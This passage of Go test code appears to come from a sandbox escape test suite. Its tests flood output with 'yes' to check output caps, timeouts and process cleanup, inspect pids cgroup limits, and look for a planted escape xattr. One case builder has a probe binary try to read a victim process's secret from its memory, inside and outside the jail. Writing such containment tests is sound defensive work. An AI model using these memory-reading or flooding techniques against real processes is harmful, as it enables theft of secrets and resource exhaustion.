	b, err := os.ReadFile(fmt.Sprintf("/proc/%d/cgroup", pid))
	if err != nil {
		return
	}
	for _, l := range strings.Split(string(b), "\n") {
		parts := strings.SplitN(l, ":", 3)
		if len(parts) != 3 || (parts[1] != "pids" && parts[1] != "") {
			continue
		}
		dir := "/sys/fs/cgroup/pids" + parts[2]
		if parts[1] == "" {
			dir = "/sys/fs/cgroup" + parts[2]
		}
		if mx, err := os.ReadFile(dir + "/pids.max"); err == nil {
			bombCgroups.Store(t.Name(), fmt.Sprintf("pids.max=%s (%s)", strings.TrimSpace(string(mx)), dir))
			return
		}
	}
}

func bombCgroup(t *testing.T) string {
	if v, ok := bombCgroups.Load(t.Name()); ok {
		return v.(string)
	}
	return "nothing (no pids cgroup seen)"
}

func flood(t *testing.T, e *env, stderr bool) {
	marker := "brigflood" + randHex(6)
	t.Cleanup(func() { killMarked(marker) })
	const limit = 64 << 10
	script := `yes ` + marker
	if stderr {
		script += ` >&2`
	}
	// The flood runs until its timeout. On a loaded machine it may not
	// even reach the cap by then, which proves nothing either way: scale
	// the timeout and flood again until it does.
	var res jail.Result
	var got []byte
	var trunc bool
	for timeout := 2 * time.Second; ; timeout *= 2 {
		res = e.sh(script, withLimits(func(l *jail.Limits) { l.OutputBytes = limit; l.Timeout = timeout }))
		got, trunc = res.Stdout, res.StdoutTruncated
		if stderr {
			got, trunc = res.Stderr, res.StderrTruncated
		}
		if trunc || len(got) > limit || !res.TimedOut {
			break
		}
		if timeout >= 2*time.Minute {
			t.Fatalf("in %s the flood wrote only %d bytes, never reaching the %d-byte cap: the case proves nothing", timeout, len(got), limit)
		}
		t.Logf("the flood wrote only %d bytes before its %s timeout; again with twice the timeout", len(got), timeout)
	}
	if len(got) > limit+200 || !trunc {
		escaped(t, "OutputBytes=%d kept %d bytes (truncated flag %v)", limit, len(got), trunc)
	}
	if !res.TimedOut {
		t.Errorf("the flood should have been ended by its timeout")
	}
	if pids := markerPIDs(marker); len(pids) > 0 {
		escaped(t, "the flooding process %v survives the call", pids)
	}
}

func allocTouched(res jail.Result) int {
	var touched, wanted int
	for _, l := range strings.Split(string(res.Stdout), "\n") {
		if strings.HasPrefix(l, "ALLOC ") {
			fmt.Sscanf(l, "ALLOC touched=%d wanted=%d", &touched, &wanted)
		}
	}
	return touched
}

func hasXattr(p string) bool {
	buf := make([]byte, 64)
	n, err := unix.Getxattr(p, "user.brig_escape", buf)
	return err == nil && string(buf[:n]) == "planted"
}

func uintptrOf(b []byte) uintptr { return uintptr(unsafe.Pointer(&b[0])) }

// execCommand is a host-side command (no jail) in dir with the fixture's
// environment.
func execCommand(e *env, dir, name string, args ...string) *exec.Cmd {
	cmd := exec.Command(name, args...)
	cmd.Dir = dir
	cmd.Env = e.hostEnv()
	cmd.WaitDelay = 5 * time.Second
	return cmd
}

// readVictimCase reads the victim process's secret from its memory with one
// of the probe's modes: outside the jail (the control) the secret must come
// back after marker; inside, it must not. extra, if set, is a further attack
// in the same case.
func readVictimCase(family, name string, passes passMask, mode, marker, what string, extra func(e *env)) escCase {
	return escCase{family: family, name: name, passes: passes, probe: true,
		control: func(t *testing.T, e *env) {
			v := getVictim(t)
			if out, _ := e.outside(probeBin, mode, strconv.Itoa(v.pid), v.addr, strconv.Itoa(v.length)); !strings.Contains(out, marker+v.secret) {
				controlFail(t, "%s outside the jail did not read its secret", what)
			}
		},
		attack: func(t *testing.T, e *env) {
			v := getVictim(t)
			res := e.argv([]string{probeBin, mode, strconv.Itoa(v.pid), v.addr, strconv.Itoa(v.length)})
			e.wantNotIn(res, v.secret, what)
			if extra != nil {
				extra(e)
			}
		}}
}
